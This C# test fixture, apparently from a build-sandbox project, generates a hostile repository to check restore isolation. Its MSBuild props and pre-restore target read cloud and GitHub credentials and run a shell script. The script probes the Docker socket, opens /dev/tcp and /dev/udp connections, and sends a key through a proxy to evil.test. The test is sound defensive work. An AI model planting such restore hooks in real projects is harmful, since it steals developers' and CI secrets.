using System.Net;

namespace SandboxBuild.IntegrationTests.Egress;

/// <summary>
/// A repository written to attack whoever restores it: an evaluation-time property that reads host secrets
/// (variables and files), and a target hooked before restore that records what it can see and reach, tries
/// a direct TCP connection and a DNS-like datagram to listeners on the host side, tries the refused host
/// through the proxy, and tries to write the source. It also references a real package from the trusted
/// feed, and carries obj/ files: an assets file naming a host folder, and a targets file MSBuild would import. What it saw goes to `evidence.txt` in the
/// package folder (the only place it may write that outlives the restore sandbox).
/// </summary>
internal static class HostileRepository
{
    /// <summary>A benign library using one package from the trusted feed (Newtonsoft.Json 13.0.3), readable by the sandbox.</summary>
    public static TempFolder Library(string prefix)
    {
        var repository = new TempFolder(prefix);
        repository.Write("Lib/Lib.csproj", """
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup>
              <ItemGroup><PackageReference Include="Newtonsoft.Json" Version="13.0.3" /></ItemGroup>
            </Project>
            """);
        repository.Write("Lib/Json.cs", "namespace Lib; public static class Json { public static string Of(object value) => Newtonsoft.Json.JsonConvert.SerializeObject(value); }\n");
        Readable(repository.Path);
        return repository;
    }

    public const string Secret = "AKIAHOSTILEEXAMPLE0001/wJalrXUtnFEMI/K7MDENG/bPxRfiCYHOSTILE";
    public const string Token = "ghs_HostileHostileHostileHostile01234";

    public static TempFolder Create(IPAddress hostSide, int tcpPort, int udpPort, int refusedPort, string strayFolder)
    {
        var repository = new TempFolder("sandboxbuild-hostile-");
        WriteInto(repository, hostSide, tcpPort, udpPort, refusedPort, strayFolder);
        return repository;
    }

    public static void WriteInto(TempFolder repository, IPAddress hostSide, int tcpPort, int udpPort, int refusedPort, string strayFolder)
    {
        repository.Write("Lib/Lib.csproj", """
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup><TargetFramework>net10.0</TargetFramework><Nullable>enable</Nullable></PropertyGroup>
              <ItemGroup><PackageReference Include="Newtonsoft.Json" Version="13.0.3" /></ItemGroup>
            </Project>
            """);
        repository.Write("Lib/Json.cs", "namespace Lib; public static class Json { public static string Of(object value) => Newtonsoft.Json.JsonConvert.SerializeObject(value); }\n");
        repository.Write("Directory.Build.props", """
            <Project>
              <PropertyGroup>
                <StolenKey>$(AWS_SECRET_ACCESS_KEY)</StolenKey>
                <StolenToken>$(GITHUB_TOKEN)$(ACTIONS_RUNTIME_TOKEN)</StolenToken>
                <StolenFile Condition="Exists('/root/.aws/credentials')">$([System.IO.File]::ReadAllText('/root/.aws/credentials'))</StolenFile>
                <StolenHome>$([System.Environment]::GetFolderPath(SpecialFolder.UserProfile))</StolenHome>
              </PropertyGroup>
            </Project>
            """);
        repository.Write("Directory.Build.targets", """
            <Project>
              <Target Name="StealBeforeRestore" BeforeTargets="Restore;_GenerateRestoreGraph;CollectPackageReferences">
                <Exec Command="bash $(MSBuildThisFileDirectory)steal.sh &quot;$(StolenKey)&quot; &quot;$(StolenToken)&quot; &quot;$(StolenFile)&quot; &quot;$(StolenHome)&quot;" ContinueOnError="true" />
              </Target>
            </Project>
            """);
        repository.Write("steal.sh", $$"""
            # What a hostile repository's restore-time code tries; every answer is written down.
            out="${NUGET_PACKAGES:-/tmp}/evidence.txt"
            {
              echo "key=[$1] token=[$2] file=[$3] home=[$4]"
              echo "uid=$(id -u)"
              echo "docker-socket=$([ -e /var/run/docker.sock ] && echo present || echo absent)"
              echo "env-secrets=$(env | grep -c -E 'AWS_|GITHUB_TOKEN|ACTIONS_')"
              timeout 5 bash -c 'exec 3<>/dev/tcp/{{hostSide}}/{{tcpPort}}' 2>/dev/null && echo "direct-tcp=connected" || echo "direct-tcp=failed"
              timeout 5 bash -c 'echo probe > /dev/udp/{{hostSide}}/{{udpPort}}' 2>/dev/null && echo "udp=sent" || echo "udp=failed"
              (touch /workspace/src/pwned 2>/dev/null && echo "write-source=written") || echo "write-source=refused"
              exec 4<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://evil.test:{{refusedPort}}/leak?k=%s HTTP/1.0\r\nHost: evil.test\r\n\r\n' "$1" >&4 && echo "via-proxy=$(head -1 <&4 | tr -d '\r' | tr ' ' '_')"
            } > "$out" 2>&1
            """);
        // MSBuild imports obj/<project>.*.targets: one carried in the repository would run in the build. Never staged.
        repository.Write("Lib/obj/Lib.csproj.stray.nuget.g.targets", """
            <Project><Target Name="Stray" BeforeTargets="Build;Restore"><Error Text="a targets file from the repository's obj/ was imported" /></Target></Project>
            """);
        // A stray assets file, as a repository can carry one: it names a host folder as a package folder.
        repository.Write("Lib/obj/project.assets.json", "{\"version\":3,\"packageFolders\":{\"" + strayFolder + "/\":{}},\"project\":{}}");
        Readable(repository.Path);
    }

    public static Dictionary<string, string> Evidence(string packageFolder) =>
        File.ReadAllLines(Path.Combine(packageFolder, "evidence.txt"))
            .SelectMany(line => line.Split(' ').Where(p => p.Contains('=', StringComparison.Ordinal)))
            .Select(p => p.Split('=', 2))
            .GroupBy(p => p[0])
            .ToDictionary(g => g.Key, g => g.First()[1]);

    public static void Readable(string folder)
    {
        foreach (var directory in Directory.EnumerateDirectories(folder, "*", SearchOption.AllDirectories).Append(folder))
        {
            File.SetUnixFileMode(directory, (UnixFileMode)0b111_101_101);
        }

        foreach (var file in Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories))
        {
            File.SetUnixFileMode(file, (UnixFileMode)0b110_100_100);
        }
    }
}
